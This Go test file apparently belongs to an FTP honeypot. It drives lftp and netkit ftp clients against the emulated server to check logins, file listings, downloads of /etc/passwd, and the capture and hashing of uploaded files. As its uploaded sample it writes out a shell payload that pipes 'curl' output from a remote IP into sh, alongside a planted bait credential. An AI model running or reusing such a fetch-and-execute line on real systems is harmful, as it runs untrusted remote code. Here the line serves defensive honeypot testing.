package ftp

// End-to-end tests with real FTP clients: lftp (passive and active mode)
// and netkit's ftp.

import (
	"crypto/sha256"
	"encoding/hex"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/testkit/gate"
)

// runLftp runs an lftp script against the server and returns its output.
func runLftp(t *testing.T, srv *testServer, dir, user, pw string, passive bool, script string) (string, error) {
	t.Helper()
	lftp := gate.Tool(t, "lftp")
	host, port, _ := net.SplitHostPort(srv.addr)
	pasv := "on"
	if !passive {
		pasv = "off"
	}
	full := "set net:max-retries 1; set net:timeout 5; set ftp:passive-mode " + pasv + "; set ftp:prefer-epsv no; " +
		"set cmd:fail-exit yes; set ssl:verify-certificate no; set ftp:ssl-allow no; " +
		"open -u '" + user + "','" + pw + "' -p " + port + " " + host + "; " + script
	cmd := exec.Command(lftp, "-c", full)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+dir)
	cmd.WaitDelay = 5 * time.Second
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestLftp(t *testing.T) {
	for _, mode := range []struct {
		name    string
		passive bool
	}{{"passive", true}, {"active", false}} {
		t.Run(mode.name, func(t *testing.T) {
			srv := startServer(t, nil)
			u := testPersona.Logins[1]
			if err := srv.drops.Write(u.Home+"/notes.txt", []byte("vpn: admin / Winter2026!\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			dir := t.TempDir()
			out, err := runLftp(t, srv, dir, u.User, "wrong-password", mode.passive, "ls")
			if err == nil || !strings.Contains(out, "530") {
				t.Fatalf("bad password accepted: %v\n%s", err, out)
			}
			payload := []byte("#!/bin/sh\ncurl -s http://203.0.113.5/m | sh\n")
			if err := os.WriteFile(filepath.Join(dir, "m.sh"), payload, 0o644); err != nil {
				t.Fatal(err)
			}
			out, err = runLftp(t, srv, dir, u.User, u.Password, mode.passive,
				"ls; get /etc/passwd -o passwd; get notes.txt -o notes.txt; put m.sh; cls -l m.sh")
			if err != nil {
				t.Fatalf("lftp: %v\n%s", err, out)
			}
			if !strings.Contains(out, "notes.txt") || strings.Contains(out, ".bashrc") {
				t.Errorf("ls output:\n%s", out)
			}
			if got, _ := os.ReadFile(filepath.Join(dir, "passwd")); string(got) != testPersona.Files()["/etc/passwd"].Content {
				t.Errorf("got /etc/passwd %q", got)
			}
			if got, _ := os.ReadFile(filepath.Join(dir, "notes.txt")); string(got) != "vpn: admin / Winter2026!\n" {
				t.Errorf("got the dropped file as %q", got)
			}
			if !strings.Contains(out, "m.sh") {
				t.Errorf("the upload is not listed:\n%s", out)
			}
			ev := srv.rec.WaitFor(t, event.TypeFileCaptured, 1)[0]
			sum := sha256.Sum256(payload)
			if ev.Fields["sha256"] != hex.EncodeToString(sum[:]) || ev.Fields["orig_path"] != u.Home+"/m.sh" {
				t.Errorf("file_captured %+v", ev.Fields)
			}
			kept, err := os.ReadFile(filepath.Join(srv.state, "artifacts", ev.Fields["stored_as"].(string)))
			if err != nil || string(kept) != string(payload) {
				t.Errorf("stored artifact %q, %v", kept, err)
			}
			var outcomes []string
			for _, e := range srv.rec.OfType(event.TypeLoginAttempt) {
				outcomes = append(outcomes, e.Credential.Outcome)
			}
			if len(outcomes) < 2 || outcomes[0] != event.OutcomeFailure || outcomes[len(outcomes)-1] != event.OutcomeSuccess {
				t.Errorf("login outcomes %v", outcomes)
			}
			want := "PASV"
			if !mode.passive {
				want = "PORT"
			}
			used := false
			for _, e := range srv.rec.OfType(event.TypeCommand) {
				used = used || e.Fields["command"] == want && e.Fields["code"] == map[string]int{"PASV": 227, "PORT": 200}[want]
			}
			if !used {
				t.Errorf("lftp never used %s", want)
			}
		})
	}
}

// netkit ftp, the client of many scripts, in passive mode.
func TestNetkitFTP(t *testing.T) {
	ftpBin := gate.Tool(t, "ftp")
	srv := startServer(t, nil)
	u := testPersona.Logins[1]
	host, port, _ := net.SplitHostPort(srv.addr)
	dir := t.TempDir()
	cmd := exec.Command(ftpBin, "-n", "-v", "-p", host, port)
	cmd.Dir = dir
	cmd.Stdin = strings.NewReader("user " + u.User + " " + u.Password + "\nbinary\nls /etc\nget /etc/hostname hostname\nbye\n")
	cmd.WaitDelay = 5 * time.Second
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("ftp: %v\n%s", err, out)
	}
	for _, want := range []string{"220 (vsFTPd 3.0.3)", "230 Login successful.", "passwd", "226 Transfer complete."} {
		if !strings.Contains(string(out), want) {
			t.Errorf("ftp output lacks %q:\n%s", want, out)
		}
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "hostname")); string(got) != testPersona.Hostname+"\n" {
		t.Errorf("got hostname %q", got)
	}
}
